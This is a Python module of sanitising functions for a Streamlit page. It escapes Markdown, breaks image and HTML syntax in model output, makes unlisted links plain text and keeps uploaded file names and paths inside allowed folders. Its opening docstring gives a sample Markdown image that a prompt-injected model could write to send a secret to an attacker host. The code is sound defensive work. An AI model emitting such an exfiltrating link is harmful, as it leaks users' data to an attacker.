"""Making untrusted text safe to show in the page.

Documents, file names and model output are untrusted: a document can carry HTML, and a
prompt-injected model can write ``![x](https://attacker/?q=secret)``, which a Markdown
renderer would fetch the moment it is shown. Everything the page renders goes through
one of these functions first; the page never passes ``unsafe_allow_html``.
"""

from __future__ import annotations

import re
import unicodedata
from pathlib import Path

# Characters with a meaning in Markdown or in Streamlit's extensions (":red[...]", "$math$").
_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:])")

# Code spans and blocks, only to leave "$" alone inside them (a cosmetic choice: if this
# misjudges a span, the worst outcome is a stray backslash or a formula).
_CODE = re.compile(r"(```.*?(?:```|\Z)|~~~.*?(?:~~~|\Z)|`[^`\n]+`)", re.DOTALL)
# "![" opens an image; "<" before a letter, "/", "!" or "?" opens an HTML tag or comment.
_IMAGE = re.compile(r"!(?=\[)")
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
_ZWSP = "\u200b"  # invisible, and breaks the syntax wherever it stands: prose or code

_SAFE_NAME_CHARS = re.compile(r"[^A-Za-z0-9._ -]")
MAX_NAME_CHARS = 120


def escape_markdown(text: str) -> str:
    """Text shown exactly as written: every Markdown character backslash-escaped.

    For file names, titles and headings used in labels (expander labels render Markdown,
    images included).
    """
    text = "".join(ch if ch.isprintable() else " " for ch in str(text))
    return _MARKDOWN_SPECIAL.sub(r"\\\1", text)


def safe_markdown(text: str) -> str:
    """Model output as Markdown that cannot embed HTML or make the browser fetch a URL.

    Formatting (bold, lists, links, code) survives. A zero-width space after "!" stops
    image syntax (what remains is a link, loaded only if the reader clicks it) and after
    "<" stops HTML tags. This needs no Markdown parsing, so no trick of code spans or
    escapes can slip an image past it; in code the characters still look the same.
    """
    text = _TAG.sub("<" + _ZWSP, _IMAGE.sub("!" + _ZWSP, str(text)))
    parts = _CODE.split(text)
    # split() with one group: even indexes are prose, odd ones are code.
    return "".join(part if i % 2 else part.replace("$", "\\$") for i, part in enumerate(parts))


_LINK = re.compile(r"(?:https?://|ftp://|www\.)[^\s<>()\[\]\"'`]+", re.I)
_MD_LINK = re.compile(r"\[([^\]]*)\]\(\s*([^)\s]*)\s*\)")


def only_links(text: str, allowed: list[str]) -> str:
    """``text`` with every link not in ``allowed`` made plain, unclickable text.

    The engine lists the links a cited source contains; any other link in model output
    (made up, or from a passage it did not rely on) must not be one click away. A Markdown
    link keeps its words; a bare URL is broken by a zero-width space so that it is not
    turned into a link (it still reads the same).
    """
    allowed_lower = {a.lower().rstrip(".,;:!?") for a in allowed}

    def ok(url: str) -> bool:
        return url.lower().rstrip(".,;:!?") in allowed_lower

    text = _MD_LINK.sub(lambda m: m.group(0) if ok(m.group(2)) else m.group(1), str(text))
    return _LINK.sub(lambda m: m.group(0) if ok(m.group(0)) else _break_link(m.group(0)), text)


def _break_link(url: str) -> str:
    return url.replace("://", ":" + _ZWSP + "//", 1).replace("www.", "www" + _ZWSP + ".", 1)


def highlighted(text: str, spans: list[tuple[int, int]]) -> str:
    """``text`` as escaped Markdown with the ``spans`` (start, end offsets) highlighted."""
    out, at = [], 0
    for start, end in sorted(spans):
        if start < at or end > len(text):
            continue
        out.append(_plain_block(text[at:start]))
        out.append(":orange-background[" + escape_markdown(" ".join(text[start:end].split())) + "]")
        at = end
    out.append(_plain_block(text[at:]))
    return "".join(out)


def _plain_block(text: str) -> str:
    """Escaped text whose line breaks survive Markdown (hard breaks)."""
    return "  \n".join(escape_markdown(line) for line in text.split("\n"))


def safe_markdown_piece(piece: str) -> str:
    """A streamed piece of model output, made safe on its own.

    Pieces arrive one token at a time and "!" may end one piece while "[" starts the next,
    so this cannot look ahead: it breaks every "!" and "<" (invisible either way). The page
    replaces the streamed text with ``safe_markdown`` of the whole answer once it is done.
    """
    return str(piece).replace("!", "!" + _ZWSP).replace("<", "<" + _ZWSP).replace("$", "\\$")


def safe_filename(name: str, default: str = "upload") -> str:
    """A file name that stays inside the folder it is saved in.

    Basename only (no path separators, no ``..``), no control characters, a conservative
    character set, not hidden (no leading dot), and a bounded length with the extension kept.
    """
    name = unicodedata.normalize("NFKC", str(name))
    name = re.split(r"[\\/]", name)[-1]  # basename, whichever separator the browser sent
    name = "".join(ch for ch in name if ch.isprintable())
    name = _SAFE_NAME_CHARS.sub("_", name)
    name = re.sub(r"\.{2,}", ".", name)
    name = re.sub(r"\s+", " ", name).strip(" ._-")
    stem, dot, ext = name.rpartition(".")
    if not dot:
        stem, ext = name, ""
    stem = stem.strip(" ._-") or default
    ext = ext[:16]
    stem = stem[: MAX_NAME_CHARS - len(ext) - 1]
    return f"{stem}.{ext}" if ext else stem


def unique_path(folder: Path, name: str) -> Path:
    """``folder/name``, or ``folder/stem-2.ext`` ... when that name is taken."""
    candidate = folder / name
    stem, suffix = Path(name).stem, Path(name).suffix
    n = 2
    while candidate.exists():
        candidate = folder / f"{stem}-{n}{suffix}"
        n += 1
    return candidate


def file_inside(root: str | Path, relative: str | Path, allowed_roots: set[str]) -> Path | None:
    """The file ``root/relative`` if it is a regular file inside one of ``allowed_roots``.

    Symlinks are resolved first, so a link inside the root pointing outside it is refused.
    """
    path = (Path(root) / relative).resolve()
    for allowed in allowed_roots:
        base = Path(allowed).resolve()
        if path.is_relative_to(base) and path.is_file():
            return path
    return None
